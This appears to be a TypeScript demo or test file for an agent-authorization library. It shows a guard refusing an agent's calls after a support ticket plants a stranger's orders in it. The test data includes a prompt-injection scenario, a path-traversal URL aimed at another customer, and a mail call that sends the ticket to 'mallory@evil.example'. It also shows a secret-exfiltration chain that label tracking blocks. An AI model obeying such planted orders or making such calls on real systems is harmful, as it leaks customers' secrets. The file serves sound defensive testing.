import assert from 'node:assert/strict';
import {
  DeniedError,
  exact,
  type Guard,
  oneOf,
  type Task,
  type TaskOptions,
  urlUnder,
  wildcard,
} from 'agent-spiffe/agent';
import { tell } from '../quickstart/tell.js';
import type { Service } from './services.js';
import type { Tools } from './tools.js';

/** The agent's world. */
export interface World {
  readonly guard: Guard;
  readonly tools: Tools;
  readonly desk: Service;
  readonly safe: Service;
  readonly mail: Service;
}

/** All that a task for this customer may do: these tools, with these arguments, so often, so long. */
const forAcme = (purpose: string, desk: Service): TaskOptions => ({
  purpose,
  ttlMs: 60_000,
  budget: { calls: 10, tools: { send_mail: 2 } },
  tools: {
    read_ticket: { id: exact('42') },
    call_api: { url: urlUnder(`${desk.origin}/customers/acme`) },
    read_secret: { name: exact('acme') },
    send_mail: { to: oneOf('ann@acme.example'), body: wildcard() },
  },
});

/** The refusal that a call must meet. */
async function refused(reason: DeniedError['reason'], call: Promise<unknown>): Promise<void> {
  const error: unknown = await call.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  assert(
    error instanceof DeniedError && error.reason === reason,
    `not ${reason}: ${String(error)}`,
  );
  tell.fact([`refused: ${reason}`, ...error.policies].join(' by '), error.message);
}

/** A stranger's orders meet a task that was not made for them. */
export async function answerTicket({ guard, tools, desk, safe, mail }: World): Promise<void> {
  await guard.task(forAcme('answer ticket 42', desk), async (task) => {
    tell.step(
      'Task "answer ticket 42". The agent reads the ticket; a stranger has planted orders in it.',
    );
    const ticket = await tools.readTicket({ id: '42' });
    tell.fact(ticket.replaceAll('\n', '\n   '), `the task now holds ${task.labels.integrity} data`);
    assert.equal(task.labels.integrity, 'untrusted');

    tell.step(
      'It obeys them. The secret is not for this purpose; globex and mallory are not for this task.',
    );
    await refused('policy', tools.readSecret({ name: 'acme' }));
    await refused('argument', tools.callApi({ url: `${desk.origin}/customers/acme/../globex` }));
    await refused('argument', tools.sendMail({ to: 'mallory@evil.example', body: ticket }));
    assert.deepEqual([safe.seen, mail.seen, desk.seen.length], [[], [], 1]);
    tell.fact('nothing was sent', 'the vault, the API and the post office saw no request');

    tell.step('What the task is there for goes through.');
    await tools.sendMail({ to: 'ann@acme.example', body: 'We look into it.' });
    await tools.callApi({ url: `${desk.origin}/customers/acme` });
    for (const { seen } of [mail, desk]) tell.fact(seen.at(-1), 'over mutual TLS');
  });
}

/** Each step is allowed by itself; together they would carry a secret out. */
export async function renewKey({ guard, tools, desk, mail }: World): Promise<void> {
  let kept: Task | undefined;
  await guard.task(forAcme('renew the key of acme', desk), async (task) => {
    kept = task;
    tell.step(
      'Task "renew the key of acme" may fetch the secret. The chain is cut where it would go out.',
    );
    let secret = '';
    for (const [step, call] of [
      ['read prompt', () => tools.readTicket({ id: '42' })],
      ['call internal API', () => tools.callApi({ url: `${desk.origin}/customers/acme` })],
      ['fetch secret', () => tools.readSecret({ name: 'acme' })],
    ] as const) {
      secret = await call();
      tell.fact(step, `the task holds ${Object.values(task.labels).join(', ')} data`);
    }
    await refused('label', tools.sendMail({ to: 'ann@acme.example', body: secret }));
    assert.equal(mail.seen.length, 1);

    tell.step('Its credentials are its own, and are gone when it is over.');
    const { audience } = await task.fetchJwtSvid({ audience: 'vault' });
    assert.equal(task.key.sign(Buffer.from('while it lasts')).length, 64);
    tell.fact(`a key ${task.key.thumbprint}`, `and a token for ${audience.join()}, in the task`);
  });
  assert(kept?.state === 'ended');
  const { key } = kept;
  assert.throws(() => key.sign(Buffer.from('too late')), { code: 'ERR_SPIFFE_TASK_ENDED' });
  await refused('task-ended', kept.fetchJwtSvid({ audience: 'vault' }));
  await refused('no-task', tools.readSecret({ name: 'acme' }));
}
